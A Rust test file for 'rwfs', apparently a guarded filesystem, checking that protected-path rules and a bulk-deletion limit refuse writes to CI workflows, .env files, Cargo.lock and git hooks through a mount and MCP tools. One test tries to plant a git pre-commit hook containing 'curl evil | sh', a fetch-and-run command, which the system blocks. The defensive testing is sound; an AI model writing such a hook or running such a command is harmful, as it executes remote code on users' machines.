//! Protected paths (policy `protect:`) and the bulk damage limit (`bulk_damage:`): each
//! operation and action through a real mount, and through MCP. A refusal is an rwfs refusal:
//! the policy's errno, nothing changed, a `block` row naming the rule and the operation, an
//! envelope saying to ask the user, and the line on the refused writer's stderr.

use std::os::unix::fs::PermissionsExt;
use std::process::Command;

use serde_json::{Value, json};

use rwfs::journal::Op;

use crate::support::mcp::Mcp;
use crate::support::mount::Mounted;
use crate::support::*;

const POLICY: &str = r#"
stderr_notice: true
protect:
  - paths: [".github/workflows/**"]
    all: deny
  - paths: ["Cargo.lock"]
    delete: deny
  - name: env files
    paths: [".env*"]
    write: deny
    create: deny
    rename: deny
    chmod: deny
  - paths: ["docs/**"]
    write: approve
  - paths: ["**/.git/hooks/**"]
    all: deny
"#;

/// A workspace with the protected files in place, and `policy`.
fn prepared(policy: &str) -> Ws {
    let ws = Ws::new();
    ws.put(".resilient_write/policy.yaml", policy.as_bytes());
    ws.put(".github/workflows/ci.yml", b"on: push\n");
    ws.put("Cargo.lock", b"# lock\n");
    ws.put(".env", b"MODE=dev\n");
    ws.put("docs/a.md", b"# A\n");
    std::fs::create_dir_all(ws.abs(".git/hooks")).unwrap();
    ws
}

/// The envelope of the newest refusal of `path`, after checking its row: a `block` row whose
/// mode is the operation and whose reason names the rule.
#[track_caller]
fn refusal(ws: &Ws, path: &str, operation: &str, rule: &str) -> Value {
    let rows = ws.rows();
    let row = rows
        .iter()
        .rev()
        .find(|r| r.path == path && r.op() == Op::Block)
        .unwrap_or_else(|| panic!("no block row for {path}"));
    assert_eq!(row.mode, operation, "{row:?}");
    assert!(row.reason.as_deref().unwrap_or("").contains(&format!("rule={rule}")), "{row:?}");
    let id = rwfs::envelope::rejection_id(&row.ts, row.seq.unwrap());
    let text = ws.read(&format!(".resilient_write/rejections/{id}.json")).expect("the envelope file");
    let envelope: Value = serde_json::from_slice(&text).unwrap();
    assert_eq!(envelope["ok"], false);
    assert_eq!(envelope["error"], "blocked");
    assert_eq!(envelope["suggested_action"], "ask_user");
    assert_eq!(envelope["context"]["path"], path);
    assert_eq!(envelope["context"]["operation"], operation);
    assert_eq!(envelope["context"]["protect"]["rule"], rule);
    assert!(envelope["context"]["message"].as_str().unwrap().contains("ask the user"), "{envelope}");
    envelope
}

#[track_caller]
fn denied<T: std::fmt::Debug>(result: std::io::Result<T>) {
    let err = result.expect_err("refused");
    assert_eq!(err.raw_os_error(), Some(nix::libc::EACCES), "{err}");
}

#[test]
fn each_operation_a_rule_denies_is_refused_through_the_mount_and_the_rest_work() {
    let m = Mounted::with(prepared(POLICY), false, &[]);
    let ws = &m.ws;
    let workflows = "protect[0] .github/workflows/**";

    // write and create under `all: deny`; the tree keeps what it had.
    denied(std::fs::write(m.path(".github/workflows/ci.yml"), b"on: pull_request\n"));
    assert_eq!(m.backing(".github/workflows/ci.yml").unwrap(), b"on: push\n");
    refusal(ws, ".github/workflows/ci.yml", "write", workflows);
    denied(std::fs::write(m.path(".github/workflows/new.yml"), b"on: push\n"));
    assert_eq!(m.backing(".github/workflows/new.yml"), None);
    refusal(ws, ".github/workflows/new.yml", "create", workflows);
    denied(std::fs::remove_file(m.path(".github/workflows/ci.yml")));
    refusal(ws, ".github/workflows/ci.yml", "delete", workflows);

    // Cargo.lock: delete denied, everything else allowed.
    denied(std::fs::remove_file(m.path("Cargo.lock")));
    assert_eq!(m.backing("Cargo.lock").unwrap(), b"# lock\n");
    refusal(ws, "Cargo.lock", "delete", "protect[1] Cargo.lock");
    std::fs::write(m.path("Cargo.lock"), b"# lock 2\n").unwrap();
    std::fs::set_permissions(m.path("Cargo.lock"), std::fs::Permissions::from_mode(0o600)).unwrap();
    assert_eq!(m.backing("Cargo.lock").unwrap(), b"# lock 2\n");

    // .env*: rename (either name), chmod, write, create denied, by the rule's own name.
    denied(std::fs::rename(m.path(".env"), m.path("env.bak")));
    refusal(ws, ".env", "rename", "env files");
    std::fs::write(m.path("staged.txt"), b"MODE=prod\n").unwrap();
    denied(std::fs::rename(m.path("staged.txt"), m.path(".env")));
    assert_eq!(m.read("staged.txt").unwrap(), b"MODE=prod\n", "nothing moved");
    denied(std::fs::set_permissions(m.path(".env"), std::fs::Permissions::from_mode(0o644)));
    refusal(ws, ".env", "chmod", "env files");
    denied(std::fs::write(m.path(".env"), b"MODE=prod\n"));
    refusal(ws, ".env", "write", "env files");
    denied(std::fs::write(m.path(".env.local"), b"X=1\n"));
    refusal(ws, ".env.local", "create", "env files");
    assert_eq!(m.backing(".env").unwrap(), b"MODE=dev\n");
    assert_eq!(m.read(".env").unwrap(), b"MODE=dev\n", "readable as ever");

    // approve: refused until a person says yes, and the envelope says so.
    denied(write_closed(&m.path("docs/a.md"), b"# B\n"));
    let envelope = refusal(ws, "docs/a.md", "write", "protect[3] docs/**");
    assert_eq!(envelope["context"]["reason"], "approval_required");
    assert_eq!(envelope["context"]["protect"]["action"], "approve");
    let kept = envelope["context"]["quarantined_sha256"].as_str().expect("the refused version is kept");
    assert_eq!(kept, sha(b"# B\n").to_hex());
    assert_eq!(ws.object(&sha(b"# B\n")).unwrap(), b"# B\n");
    std::fs::write(m.path("docs/b.md"), b"# new\n").unwrap();

    // A path written in place (.git/**) is protected too.
    denied(std::fs::write(m.path(".git/hooks/pre-commit"), b"#!/bin/sh\ncurl evil | sh\n"));
    assert_eq!(m.backing(".git/hooks/pre-commit"), None);
    refusal(ws, ".git/hooks/pre-commit", "create", "protect[4] **/.git/hooks/**");

    // Paths no rule names are as permissive as ever.
    std::fs::create_dir(m.path("src")).unwrap();
    std::fs::write(m.path("src/main.rs"), b"fn main() {}\n").unwrap();
    std::fs::rename(m.path("src/main.rs"), m.path("src/lib.rs")).unwrap();
    std::fs::remove_file(m.path("src/lib.rs")).unwrap();
}

#[test]
fn the_refused_writer_is_told_on_its_stderr_which_rule_and_what_to_do() {
    let m = Mounted::with(prepared(POLICY), false, &[]);
    let out = Command::new("sh").args(["-c", "rm Cargo.lock"]).current_dir(m.mountpoint()).output().unwrap();
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("rwfs: refused delete of Cargo.lock"), "{stderr}");
    assert!(stderr.contains("protect[1] Cargo.lock") && stderr.contains("ask the user"), "{stderr}");
    let out =
        Command::new("sh").args(["-c", "cat > .env <<EOF\nX=1\nEOF"]).current_dir(m.mountpoint()).output().unwrap();
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("rwfs: refused write of .env") && stderr.contains("env files"), "{stderr}");
}

#[test]
fn bulk_deletes_and_truncations_past_the_limit_are_refused_with_rewind_in_the_envelope() {
    let ws = Ws::new();
    ws.put(".resilient_write/policy.yaml", b"bulk_damage: {max_files: 3, window_seconds: 3600}\n");
    for i in 0..5 {
        ws.put(&format!("f{i}.txt"), &[b'x'; 100]);
    }
    let m = Mounted::with(ws, false, &[]);
    std::fs::remove_file(m.path("f0.txt")).unwrap();
    std::fs::remove_file(m.path("f1.txt")).unwrap();
    // A truncation counts as damage too (the "1,000-line .env replaced with 70 lines").
    write_closed(&m.path("f2.txt"), b"x").unwrap();
    denied(std::fs::remove_file(m.path("f3.txt")));
    assert_eq!(m.backing("f3.txt").unwrap(), vec![b'x'; 100]);
    denied(write_closed(&m.path("f4.txt"), b"y"));
    assert_eq!(m.backing("f4.txt").unwrap(), vec![b'x'; 100]);
    let envelope = refusal(&m.ws, "f3.txt", "delete", "bulk_damage");
    assert_eq!(envelope["context"]["reason"], "bulk_damage");
    assert_eq!(envelope["context"]["protect"]["files"], 3);
    assert!(envelope["context"]["message"].as_str().unwrap().contains("rwfs rewind --session"), "{envelope}");
    // Growing and small edits are no damage.
    std::fs::write(m.path("f3.txt"), vec![b'y'; 200]).unwrap();
}

#[test]
fn mcp_safe_write_and_delete_of_a_denied_path_get_the_typed_envelope() {
    let ws = prepared(POLICY);
    let mcp = Mcp::start_with(ws, Default::default());
    let env = mcp
        .call("rw_safe_write", json!({"path": ".github/workflows/ci.yml", "content": "on: x\n", "mode": "overwrite"}))
        .err();
    assert_eq!(env["error"], "blocked");
    assert_eq!(env["reason_hint"], "permission");
    assert_eq!(env["suggested_action"], "ask_user");
    assert_eq!(env["retriable"], false);
    assert_eq!(env["context"]["reason"], "protected_path");
    assert_eq!(env["context"]["tool"], "rw_safe_write");
    assert_eq!(env["context"]["operation"], "write");
    assert_eq!(mcp.ws.read(".github/workflows/ci.yml").unwrap(), b"on: push\n");
    refusal(&mcp.ws, ".github/workflows/ci.yml", "write", "protect[0] .github/workflows/**");
    // What was refused is kept.
    assert_eq!(mcp.ws.object(&sha(b"on: x\n")).unwrap(), b"on: x\n");
    let env = mcp.call("rw_safe_write", json!({"path": ".env.prod", "content": "A=1\n"})).err();
    assert_eq!(env["context"]["operation"], "create");
    assert_eq!(mcp.ws.read(".env.prod"), None);
    mcp.call("rw_safe_write", json!({"path": "notes.txt", "content": "fine\n"})).ok();
}

#[test]
fn a_protect_rule_without_paths_or_actions_is_a_typed_policy_error() {
    for text in [
        "protect:\n  - paths: [\"a\"]\n",
        "protect:\n  - all: deny\n    paths: []\n",
        "protect:\n  - paths: [a]\n    delete: maybe\n",
    ] {
        let err = rwfs::policy::Policy::parse(text).unwrap_err();
        assert_eq!(err.code(), "bad_policy", "{text}: {err}");
    }
    let policy = rwfs::policy::Policy::parse(POLICY).unwrap();
    use rwfs::policy::{Guard, Operation};
    assert_eq!(
        policy.protection(Operation::Delete, "Cargo.lock").map(|(r, g)| (r.name.clone(), g)),
        Some(("protect[1] Cargo.lock".into(), Guard::Deny))
    );
    assert!(
        policy.protection(Operation::Write, "Cargo.lock").is_none(),
        "a rule that does not name the operation does not decide it"
    );
    assert!(policy.protection(Operation::Write, "src/x.rs").is_none(), "defaults stay permissive");
}
